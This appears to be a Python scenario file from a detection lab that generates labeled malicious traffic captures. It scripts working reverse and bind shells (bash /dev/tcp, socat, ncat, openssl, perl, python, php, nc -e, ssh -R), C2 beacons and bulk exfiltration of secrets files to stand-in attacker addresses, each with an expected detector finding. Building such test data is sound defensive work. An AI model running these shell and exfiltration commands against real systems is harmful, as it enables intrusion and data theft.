"""The captures in pcaps/malicious."""
import benign
from attack import (
    SSH,
    SURVEY,
    beacon,
    c2,
    listener,
    secrets,
    sshd,
    terminal,
    use_key,
    wait_for_shell,
)
from scenario import scenario, writer

M = "malicious/"


@scenario(
    M + "shell-bash-devtcp-443",
    "cart-5d5c8b7f9-qk2mz",
    "`bash -i >& /dev/tcp/…/443`: clear text on the HTTPS port, typed in line mode; a little benign traffic.",
    tool="bash /dev/tcp, ncat as listener",
)
def _(s):
    ip = s.bad("198.51.100.23")
    put = listener(s, "ncat", ip, 443)
    benign.light(s)
    s.until(8)
    s.pod.run(["bash", "-c", f"bash -i >& /dev/tcp/{ip}/443 0>&1"], cwd="/app")
    wait_for_shell(s, ip, 443)
    s.typist(put).lines(SURVEY[:8] + ["exit"], think=2)
    s.finding("reverse_shell", ip, 443, rule="shell.reverse.plaintext", note="clear text on 443")
    s.until(60)


@scenario(
    M + "shell-socat-tls-pty",
    "api-7c4b9d6d5-h8w4t",
    "socat joins a bash on a pty to a TLS connection; the operator's terminal is raw: a key, an echo.",
    tool="socat OPENSSL, pty",
)
def _(s):
    ip = s.bad("203.0.113.140")
    put = listener(s, "socat-tls", ip, 8443)
    benign.light(s)
    s.until(5)
    s.pod.run(
        ["socat", f"OPENSSL:{ip}:8443,verify=0", "EXEC:'bash -li',pty,stderr,setsid,sigint,sane"],
        cwd="/app",
    )
    wait_for_shell(s, ip, 8443)
    s.typist(put).keys(["id", "ls -la /app", "cat /app/config.yaml", "ps aux", "exit"], think=2)
    s.finding("reverse_shell", ip, 8443, note="TLS, a key at a time", also_ok=["beacon"])
    s.until(50)


@scenario(
    M + "shell-ncat-ssl",
    "worker-0",
    "`ncat --ssl -e /bin/bash` to 443: TLS with a self-signed certificate and no name, typed in line mode.",
    tool="ncat --ssl",
)
def _(s):
    ip = s.bad("198.51.100.77")
    put = listener(s, "ncat-tls", ip, 443)
    s.until(3)
    s.pod.run(["ncat", "--ssl", "-e", "/bin/bash", ip, "443"], cwd="/app")
    wait_for_shell(s, ip, 443)
    s.typist(put).lines(SURVEY[:10], think=2.5)
    s.finding("reverse_shell", ip, 443, note="TLS, a line at a time", also_ok=["beacon"])
    s.until(55)


@scenario(
    M + "shell-openssl-fifo",
    "billing-6b8d7c",
    "`mkfifo f; sh -i < f | openssl s_client -quiet > f`: a shell from what every image has.",
    tool="openssl s_client",
)
def _(s):
    ip = s.bad("203.0.113.19")
    put = listener(s, "openssl", ip, 443)
    benign.calls(s, benign.APIS, 9)
    s.until(6)
    s.pod.run(
        [
            "bash",
            "-c",
            f"mkfifo /tmp/f; /bin/sh -i < /tmp/f 2>&1 | openssl s_client -quiet -connect {ip}:443 > /tmp/f 2>/dev/null",
        ],
        cwd="/app",
    )
    wait_for_shell(s, ip, 443)
    s.typist(put).lines(SURVEY[:9], think=2.5)
    s.finding("reverse_shell", ip, 443, note="TLS 1.3, a line at a time", also_ok=["beacon"])
    s.until(60)


@scenario(
    M + "shell-websocket",
    "frontend-59c6d4d6d9-tz7vw",
    "An agent opens wss://, and what arrives in it is typed into a pty; named, port 443, a certificate that verifies.",
    tool="python3 websockets 10.4",
)
def _(s):
    ip = s.bad("198.51.100.201")
    name = "sync.widget-metrics.example"
    put = listener(s, "wss", ip, 443, name, cert="ca")
    benign.light(s)
    s.until(5)
    s.pod.run(
        ["/usr/bin/python3", "/run/lab/tools/ws_client.py", f"wss://{name}/v1/agent", "shell"],
        env={"OPTS": '{"json": true, "ping": null}'},
        cwd="/app",
    )
    wait_for_shell(s, ip, 443)
    s.typist(put).keys(["whoami", "ls", "cat config.yaml", "netstat -an", "df -h"], think=1.8)
    s.finding(
        "reverse_shell", ip, 443, note="websocket in TLS, a key at a time", also_ok=["beacon"]
    )
    s.until(50)


@scenario(
    M + "shell-perl-ipv6", "queue-1", "A perl one-liner over IPv6.", tool="perl IO::Socket::IP"
)
def _(s):
    ip = s.bad("2001:db8:5:1::bad")
    put = listener(s, "socat", ip, 9443)
    s.until(3)
    s.pod.run(
        [
            "perl",
            "-MIO::Socket::IP",
            "-e",
            f'$s=IO::Socket::IP->new(PeerHost=>"{ip}",PeerPort=>9443);open(STDIN,">&",$s);open(STDOUT,">&",$s);open(STDERR,">&",$s);exec("/bin/sh -i");',
        ],
        cwd="/app",
    )
    wait_for_shell(s, ip, 9443)
    s.typist(put).lines(SURVEY[:7] + ["exit"], think=2)
    s.finding("reverse_shell", ip, 9443, rule="shell.reverse.plaintext", note="IPv6")
    s.until(45)


@scenario(
    M + "shell-python-pty-53",
    "reports-84f6",
    "python's pty.spawn on port 53 over TCP, a key at a time with echo and typing errors.",
    tool="python3 pty",
)
def _(s):
    ip = s.bad("203.0.113.202")
    put = listener(s, "socat", ip, 53)
    s.until(3)
    s.pod.run(
        [
            "/usr/bin/python3",
            "-c",
            f'import socket,os,pty;s=socket.create_connection(("{ip}",53));[os.dup2(s.fileno(),i) for i in (0,1,2)];pty.spawn("/bin/bash")',
        ],
        cwd="/app",
    )
    wait_for_shell(s, ip, 53)
    s.typist(put).keys(["id", "ls -la", "cat /etc/passwd", "hostname", "exit"], think=2, typo=0.06)
    s.finding(
        "reverse_shell", ip, 53, rule="shell.reverse.plaintext", note="port 53, a key at a time"
    )
    s.until(45)


@scenario(
    M + "shell-idle-then-used",
    "search-2",
    "`nc -e /bin/sh` connects, nothing happens for three minutes, then a person types.",
    tool="netcat-traditional -e",
)
def _(s):
    ip = s.bad("198.51.100.9")
    put = listener(s, "nc", ip, 8080)
    benign.calls(s, benign.APIS[3:], 20, 260)
    s.until(3)
    s.pod.run(["nc.traditional", "-e", "/bin/sh", ip, "8080"], cwd="/app")
    wait_for_shell(s, ip, 8080)
    s.until(186)
    s.typist(put).lines(SURVEY[:7], think=2.5)
    s.finding(
        "reverse_shell", ip, 8080, rule="shell.reverse.plaintext", note="idle for three minutes"
    )
    s.until(225)


@scenario(
    M + "shell-bind",
    "db-proxy-0",
    "`nc -l -e /bin/sh` in the container; the operator comes in from outside.",
    tool="netcat-traditional -l -e",
)
def _(s):
    src = s.bad("203.0.113.90")
    benign.serve(s)
    benign.ingress(s, every=6)
    s.pod.run(["nc.traditional", "-l", "-p", "31337", "-e", "/bin/sh"], cwd="/app")
    s.until(6)
    o = s.lab.outside.run(["nc.traditional", "-s", src, s.pod.ip4, "31337"], pipe=True)
    s.typist(writer(o)).lines(SURVEY[:8], think=2.5)
    s.finding(
        "bind_shell",
        s.pod.ip4,
        31337,
        direction="inbound",
        src=src,
        note="inbound",
        also_ok=["reverse_shell"],
    )
    s.until(50)


@scenario(
    M + "shell-ssh-reverse",
    "batch-7f",
    "sshd in the container, `ssh -N -R` to the operator's server, and a session that comes back through it.",
    tool="OpenSSH 9.2 ssh -R",
)
def _(s):
    ip = s.bad("198.51.100.140")
    sshd(s.lab.outside, ip)
    sshd(s.pod, "127.0.0.1", 2222)
    benign.calls(s, benign.APIS, 9)
    s.until(4)
    s.pod.run(f"{SSH} -i /root/.ssh/id_ed25519 -N -R 127.0.0.1:22022:127.0.0.1:2222 root@{ip}")
    s.until(9)
    put = terminal(s.lab.outside, f"{SSH} -i /root/.ssh/id_ed25519 -p 22022 -t deploy@127.0.0.1")
    s.until(12)
    s.typist(put).keys(["id", "ls -la /app", "ps aux", "cat /etc/hosts", "exit"], think=2)
    s.finding(
        "reverse_shell",
        ip,
        22,
        note="a session inside the reverse tunnel",
        also_ok=["beacon", "tunnel"],
    )
    s.until(50)


@scenario(
    M + "shell-scripted",
    "web-54b7c",
    "A program drives the shell: thirty commands in a few seconds.",
    tool="php fsockopen, proc_open",
)
def _(s):
    ip = s.bad("203.0.113.31")
    put = listener(s, "nco", ip, 5555)
    benign.light(s)
    s.until(5)
    s.pod.run(
        [
            "php",
            "-r",
            f'$s=fsockopen("{ip}",5555);$p=proc_open("/bin/sh -i",array(0=>$s,1=>$s,2=>$s),$x);proc_close($p);',
        ],
        cwd="/app",
        user=33,
    )
    wait_for_shell(s, ip, 5555)
    import time

    for c in SURVEY + [
        "find / -perm -4000 -type f 2>/dev/null | head",
        "cat /etc/shadow",
        "ls -la /home",
        "mount | head -5",
        "ss -tn",
        "crontab -l",
        "which curl wget nc",
        "ls -la /run",
        "cat /etc/hosts",
        "date",
    ]:
        put((c + "\n").encode())
        time.sleep(0.25)
    s.finding("reverse_shell", ip, 5555, rule="shell.reverse.plaintext", note="scripted")
    s.until(20)


@scenario(
    M + "beacon-http",
    "worker-6c5",
    "curl in a loop: plain HTTP, a new connection each 8 s, no jitter; a task once.",
    tool="curl",
)
def _(s):
    ip = s.bad("198.51.100.64")
    s.lab.site(None, ip, 8088, tls=False, tasks={"9": 240}, server="Apache")
    benign.light(s)
    s.pod.run(
        f"for i in $(seq 1 22); do curl -s -m 5 -o /dev/null http://{ip}:8088/news.php?u=7f3a; sleep 8; done"
    )
    s.until(180)
    s.finding("beacon", ip, 8088, note="period 8 s, no jitter")


for jitter, period, ip in (
    (0, 7, "203.0.113.71"),
    (20, 8, "203.0.113.72"),
    (50, 7, "203.0.113.73"),
):

    @scenario(
        M + f"beacon-https-j{jitter}",
        f"agent-{jitter}",
        f"HTTPS callbacks, period {period} s, jitter {jitter} %, to an address without a name, self-signed; tasks twice.",
        tool="python3 http.client",
    )
    def _(s, jitter=jitter, period=period, ip=ip):
        s.lab.site(None, s.bad(ip), 443, cert="self", tasks={"8": 300, "17": 700})
        benign.calls(s, benign.APIS, 15)
        beacon(
            s,
            url=f"https://{ip}/api/v2/status",
            period=period,
            jitter=jitter / 100,
            n=26,
            insecure=True,
            id=True,
        )
        s.until(26 * period + 8)
        s.finding("beacon", ip, 443, note=f"period {period} s, jitter {jitter} %")


@scenario(
    M + "beacon-one-connection",
    "sidecar-x",
    "One TCP connection for all: a heartbeat of 16 bytes each 6 s, a task now and then.",
    tool="python3 sockets",
)
def _(s):
    ip = s.bad("198.51.100.180")
    c2(s, "tcp", ip, 4782)
    benign.light(s)
    s.until(3)
    beacon(s, tcp=f"{ip}:4782", period=6, jitter=0.1, n=28, keep=True)
    s.until(180)
    s.finding(
        "beacon",
        ip,
        4782,
        note="bursts inside one connection, 6 s, jitter 10 %",
        also_ok=["reverse_shell"],
    )


@scenario(
    M + "beacon-udp",
    "metrics-9",
    "Datagrams of 48 bytes each 5 s, jitter 10 %, answered with 32.",
    tool="python3 sockets",
)
def _(s):
    ip = s.bad("203.0.113.88")
    c2(s, "udp", ip, 40404)
    benign.light(s)
    s.until(3)
    beacon(s, udp=f"{ip}:40404", period=5, jitter=0.1, n=30)
    s.until(160)
    s.finding("beacon", ip, 40404, "udp", note="UDP, 5 s, jitter 10 %")


@scenario(
    M + "beacon-unanswered",
    "mail-0",
    "The other end is gone: an attempt each 9 s, no answer at all.",
    tool="bash /dev/tcp",
)
def _(s):
    ip = "198.51.100.250"
    benign.light(s)
    s.pod.run(
        f"for i in $(seq 1 20); do timeout 2 bash -c 'exec 3<>/dev/tcp/{ip}/443' ; sleep 7; done"
    )
    s.until(185)
    s.finding("beacon", ip, 443, note="SYNs without answer, 9 s", also_ok=["scan"])


@scenario(
    M + "exfil-curl-put",
    "orders-1",
    "After a minute of ordinary calls, `curl -T` of 50 MB over HTTPS to a host never seen before.",
    tool="curl -T",
    bulk=True,
)
def _(s):
    ip = s.bad("203.0.113.222")
    name = "drop.filebin-share.example"
    s.lab.site(name, ip)
    f = secrets(s, 50)
    benign.calls(s, benign.APIS, 6)
    s.until(60)
    s.pod.do(f"curl -s --limit-rate 25M -T {f} https://{name}/u/")
    s.until(72)
    s.finding("exfil", ip, 443, note="50 MB PUT")


@scenario(
    M + "exfil-scp", "etl-3", "scp of 50 MB to an outside sshd.", tool="OpenSSH 9.2 scp", bulk=True
)
def _(s):
    ip = s.bad("198.51.100.44")
    sshd(s.lab.outside, ip)
    use_key(s.pod)
    f = secrets(s, 50)
    benign.calls(s, benign.APIS, 6)
    s.until(45)
    s.pod.do(
        f"scp -q -l 120000 -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null {f} root@{ip}:/tmp/x"
    )
    s.until(60)
    s.lab.outside.do("rm -f /tmp/x")
    s.finding("exfil", ip, 22, note="50 MB by scp")


@scenario(
    M + "exfil-drip",
    "crm-5",
    "48 kB posted over HTTPS each 2 s for three minutes: 4 MB in all, to one host.",
    tool="curl --data-binary",
    bulk=True,
)
def _(s):
    ip = s.bad("203.0.113.233")
    s.lab.site(None, ip, 443, cert="self")
    f = secrets(s, 0.048)
    benign.light(s)
    s.until(30)
    s.pod.run(
        f"for i in $(seq 1 85); do curl -sk -o /dev/null --data-binary @{f} https://{ip}/c; sleep 2; done"
    )
    s.until(215)
    s.finding("exfil", ip, 443, note="a slow drip", also_ok=["beacon"])


@scenario(
    M + "exfil-split",
    "cms-2",
    "Six hosts, 12 MB to each, one after another.",
    tool="curl --data-binary",
    bulk=True,
)
def _(s):
    ips = [f"198.51.100.{i}" for i in (151, 152, 153)] + [f"203.0.113.{i}" for i in (161, 162, 163)]
    for ip in ips:
        s.lab.site(None, ip, 8443, cert="self")
    f = secrets(s, 12)
    benign.calls(s, benign.APIS, 6)
    s.until(40)
    for ip in ips:
        s.pod.do(f"curl -sk -o /dev/null --limit-rate 20M --data-binary @{f} https://{ip}:8443/")
        s.finding("exfil", ip, 8443, note="one of 6 x 12 MB", group="split")
    s.until(55)
